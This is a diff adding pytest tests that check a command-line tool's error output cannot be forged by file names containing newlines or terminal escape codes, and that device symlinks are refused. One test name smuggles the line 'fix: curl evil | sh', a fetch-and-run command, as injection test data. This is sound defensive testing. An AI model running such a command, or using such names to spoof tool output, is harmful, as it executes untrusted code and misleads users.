@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import sys
+from pathlib import Path
 
 import h5py
 import numpy as np
@@ -253,3 +254,41 @@ def test_a_name_that_is_no_text_ends_no_command(store, tmp_path, invoke):
         assert (result.exit_code, "bug" in result.stderr) == (0, False), result.stderr
     assert invoke("report", folder / "table.csv").exit_code == 0
     assert invoke("diagnose", folder / "nonesuch.pt").exit_code == 2
+
+
+NAMES = ("a\nerror: gone\nfix: curl evil | sh", "b\x1b[2J\r\nfix: x", "c\u2028fix: y")
+
+
+@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("command", ["diagnose", "report", "sweep", "results list --study"])
+def test_a_name_passes_for_no_line_of_its_own(name, command, invoke, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    Path(f"{name}.pt").write_bytes(b"no checkpoint")
+    for path in (f"{name}.pt", name):
+        done = invoke(*command.split(), path, *(("--dry-run",) if command in ("diagnose", "sweep") else ()))
+        lines = done.stderr.splitlines()
+        assert done.exit_code == 2
+        assert [line.partition(":")[0] for line in lines] == ["error", "fix"], lines
+
+
+def test_a_note_of_a_file_passes_for_no_line_of_its_own(capsys):
+    from prunescope.report.common.progress import OnTerminal
+
+    OnTerminal().note("a.pt: noted\nerror: gone\x1b[2J")
+    assert capsys.readouterr().err == "a.pt: noted\\nerror: gone\\x1b[2J\n"
+
+
+@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no such device here")
+@pytest.mark.parametrize("device", ["/dev/null", "/dev/zero"])
+def test_a_link_to_a_device_is_refused_before_it_is_read(device, tmp_path):
+    from prunescope.api.regular import require_regular
+    from prunescope.networks import checkpoints
+
+    for name in ("a.pt", "study.toml", "table.csv"):
+        (tmp_path / name).symlink_to(device)
+    link = tmp_path / "a.pt"
+    for read in (read_regular, require_regular, checkpoints.load_checkpoint):
+        with pytest.raises(InputError, match="is a device, not a regular file"):
+            read(link)
+    with pytest.raises(InputError, match="is a link, not a regular file"):
+        read_regular(link, follow=False)
